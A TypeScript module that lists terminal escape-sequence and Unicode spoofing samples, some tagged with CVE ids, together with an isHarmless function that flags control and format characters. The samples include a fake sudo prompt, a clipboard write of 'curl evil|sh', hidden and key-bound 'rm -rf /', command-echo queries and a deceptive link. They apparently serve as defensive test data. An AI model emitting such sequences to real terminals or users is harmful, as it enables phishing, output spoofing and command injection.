/** What was done to terminals with text that a program showed without a second look. `text` is what a task would print. */
export const TERMINAL_ATTACKS: readonly { readonly name: string; readonly text: string }[] = [
  {
    name: 'fakes lines of a list by moving the cursor (CVE-2021-25743)',
    text: 'x\x1b[2K\x1b[1A\x1b[2Kpod/ok  Running',
  },
  {
    name: 'clears the screen and prints a prompt (GHSA-34r5-6j7w-235f)',
    text: '\x1b[2J\x1b[H[sudo] password for root: ',
  },
  { name: 'colours a log line as another (RUSTSEC-2025-0055)', text: '\x1b[0m\x1b[32m INFO\x1b[0m all is well\x1b[8m' },
  { name: 'hides text', text: '\x1b[8mrm -rf /\x1b[0m' },
  { name: 'writes the clipboard (OSC 52)', text: '\x1b]52;c;Y3VybCBldmlsfHNo\x07' },
  { name: 'writes the clipboard, ended by ST', text: '\x1b]52;c;Y3VybCBldmlsfHNo\x1b\\' },
  { name: 'sets the title (OSC 0) and asks for it (CSI 21 t; CVE-2003-0063)', text: '\x1b]0;;reboot;\x07\x1b[21t' },
  {
    name: 'makes a link with a false face (OSC 8)',
    text: '\x1b]8;;http://evil.test\x1b\\https://bank.test\x1b]8;;\x1b\\',
  },
  { name: 'asks for a setting and has it answered (DECRQSS; CVE-2008-2383)', text: '\x1bP$q\nid > /tmp/x\n\x1b\\' },
  { name: 'asks for the font (OSC 50; CVE-2022-45063)', text: '\x1b]50;i$(id)\x07\x1b]50;?\x07' },
  { name: 'answers with an exit code (ESC G Q; CVE-2021-33477)', text: '\x1bGQ;' },
  { name: 'programs keys (DECUDK)', text: '\x1bP0;1|17/726d202d7266202f\x1b\\' },
  { name: 'programs keys (ANSI.SYS)', text: '\x1b[65;"rm -rf /";13p' },
  { name: 'notifies with a command (kitty; CVE-2022-41322)', text: '\x1b]99;i=1:d=0;\x1b\\\x1b]777;notify;a;b\x07' },
  { name: 'writes a file (iTerm2 OSC 1337)', text: '\x1b]1337;File=name=Lg==;inline=0:AAAA\x07' },
  {
    name: 'passes through tmux (DCS; CVE-2019-9535)',
    text: '\x1bPtmux;\x1b\x1b]52;c;AAAA\x07\x1b\\\x1bP1000p%exit\n\x1b\\',
  },
  { name: 'sends a privacy message and an application command', text: '\x1b^secret\x1b\\\x1b_Gf=100;AAAA\x1b\\' },
  { name: 'uses 8-bit CSI, OSC, DCS and ST', text: '\x9b2J\x9d0;title\x9c\x90$qm\x9c' },
  { name: 'asks who is there (ENQ)', text: 'a\x05b' },
  { name: 'shifts to another character set (SO, SI, SS2)', text: '\x0e lqqk \x0f\x8e' },
  { name: 'resets the terminal (RIS)', text: '\x1bc' },
  { name: 'overwrites the line', text: 'status: failed\rstatus: succeeded' },
  { name: 'overwrites by going back', text: 'failed\b\b\b\b\b\bpassed' },
  { name: 'goes down, feeds forms, rings', text: 'a\x0bb\x0cc\x07' },
  { name: 'erases with DEL', text: 'abc\x7f\x7f\x7f' },
  { name: 'reverses the reading direction (CVE-2021-42574)', text: 'access\u202e \u2066// admin\u2069 \u2066user' },
  { name: 'reverses with marks', text: 'a\u200fb\u061cc\u200e' },
  { name: 'hides text in tags', text: `ok${String.fromCodePoint(0xe0072, 0xe006d)}` },
  { name: 'hides in zero width', text: 'ad\u200bmin\ufeff\u2060\u00ad' },
  { name: 'ends a line by U+2028 and U+2029', text: 'a\u2028b\u2029c\u0085d' },
  { name: 'is not well-formed', text: 'a\ud800b\udc00' },
]

/** Whether a terminal, or a reader, could take part of the text as more than the text; line feeds and tabs are none. */
export function isHarmless(text: string): boolean {
  const isInstruction = (character: string) =>
    /[\p{Cc}\p{Cf}\p{Zl}\p{Zp}\p{Cs}]/u.test(character) && !HARMLESS_FORMATS.test(character)
  return !Array.from(text).some(isInstruction)
}

/** Line feed and tab, joiners and non-joiners, and formats of Arabic and Syriac that are seen. */
const HARMLESS_FORMATS = /\n|\t|\u200c|\u200d|[\u0600-\u0605\u06dd\u070f\u0890\u0891\u08e2]/
